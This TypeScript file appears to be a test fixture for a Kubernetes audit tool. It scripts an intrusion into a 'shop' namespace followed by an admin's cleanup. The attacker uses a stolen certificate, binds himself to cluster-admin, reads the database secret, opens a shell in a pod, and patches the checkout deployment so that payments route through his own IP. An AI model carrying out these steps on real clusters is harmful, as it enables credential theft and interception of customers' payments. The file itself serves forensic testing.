// Thursday evening: how the shop broke, and who mended it. `plaintrail who deployment/checkout -n shop` shows the middle
// of it; the exec, the stolen certificate and the binding are found from there.
import { checkout } from './story-apps.ts'
import * as cast from './story-cast.ts'
import { forbidden, kubectl } from './story-kubectl.ts'
import { leakingImage } from './story-kubelet.ts'
import type { At, Scene } from './story-scene.ts'
import { autoscale, inTemplate } from './story-workloads.ts'
import { minuteUs, secondUs } from './story-agenda.ts'

const secrets = { resource: 'secrets', namespace: 'shop' } as const
const checkoutAutoscaler = { resource: 'horizontalpodautoscalers', namespace: 'shop', name: 'checkout' } as const

/** Dave, from an address nobody has used before, first as himself, then with carol's certificate, then as admin. */
export function thursdayEvening({ cluster, carol }: Scene, at: At): void {
  const outside = kubectl(cluster, cast.daveOutside)
  const asCarol = kubectl(cluster, cast.stolenCarol)
  const asAdmin = kubectl(cluster, cast.daveAsAdmin)
  at('18:38:07', () => refusedLogin(cluster))
  at('18:40:33', () => outside.discover())
  at('18:41:20', () => outside.write('create', { resource: 'selfsubjectrulesreviews' }))
  at('18:42:02', () => cluster.send({ by: cast.daveOutside, verb: 'list', on: secrets, failure: deniedList }))
  at('18:44:18', () => asCarol.list('secrets', 'shop'))
  at('18:45:31', () => asCarol.bind(debugAdmin))
  // The real carol is at work: one certificate, two addresses within a minute.
  at('18:46:20', () => carol.list('deployments', 'web'))
  at('18:47:09', () => asAdmin.get('secrets', 'shop', 'checkout-db'))
  at('18:48:26', () => asAdmin.list('pods', 'shop'))
  at('18:49:02', () => asAdmin.exec(checkout, ['sh'], 23 * minuteUs + 11 * secondUs))
  at('19:15:40', () => asAdmin.patch(checkout, hotfix))
  at('19:21:12', () => asAdmin.write('patch', checkoutAutoscaler, 'fieldManager=kubectl-patch'))
  at('19:21:55', () => asAdmin.scale(checkout, 1))
}

/** An hour later argocd puts back what git has; image and replicas are not in git, so alice has to do the rest. */
export function thursdayNight({ cluster, argo, alice }: Scene, at: At): void {
  at('20:22:04', () => argo.sync(checkout))
  at('20:22:05', () => argo.applyOther('horizontalpodautoscalers', checkout))
  at('20:22:21', () => autoscale(cluster, checkout, 3))
  at('20:29:10', () => alice.list('pods', 'shop'))
  at('20:29:48', () => alice.describe(checkout))
  at('20:30:31', () => alice.logs(checkout, 'previous=true&tail=200'))
  at('20:31:15', () => alice.get('deployments', 'shop', 'checkout'))
  at('20:31:50', () => alice.list('replicasets', 'shop', 'labelSelector=app.kubernetes.io%2Fname%3Dcheckout&limit=500'))
  at('20:33:24', () => alice.list('rolebindings', 'shop'))
  at('20:33:59', () => alice.get('rolebindings', 'shop', 'debug-admin'))
  at('20:34:37', () => alice.remove({ resource: 'rolebindings', namespace: 'shop', name: 'debug-admin' }))
  at('20:36:03', () => alice.undo(checkout, 'registry.acme.example/shop/checkout:1.18.2'))
  at('20:36:20', () => alice.watch('shop', 9))
  at('20:38:45', () => alice.scale(checkout, 6))
  at('21:40:16', () => autoscale(cluster, checkout, 3))
}

const debugAdmin = {
  namespace: 'shop',
  name: 'debug-admin',
  role: 'cluster-admin',
  subject: { kind: 'User', name: cast.dave.username },
} as const

const deniedList = forbidden(cast.daveOutside, 'list', secrets)

/** The charges of every customer now pass through dave's own machine. */
const mirror = `http://${cast.unusualIp}:8080/v1/charge?retry=3&timeout=5s`

const hotfix = {
  image: leakingImage,
  env: { PAYMENTS_URL: mirror, LOG_PATTERN: '%d <%level> %msg', LOG_LEVEL: 'trace' },
  patch: {
    query: 'fieldManager=kubectl-patch',
    manager: 'kubectl-patch',
    body: inTemplate({
      containers: [
        {
          env: [
            { name: 'PAYMENTS_URL', value: mirror },
            { name: 'LOG_LEVEL', value: 'trace' },
          ],
          image: leakingImage,
          name: 'checkout',
        },
      ],
    }),
  },
}

function refusedLogin(cluster: Scene['cluster']): void {
  const failure = { code: 401, reason: 'Unauthorized', message: 'Unauthorized' } as const
  const on = { resource: 'pods', namespace: 'shop' } as const
  cluster.refuse({ by: cast.daveRefused, verb: 'list', on, query: 'limit=500', failure })
}
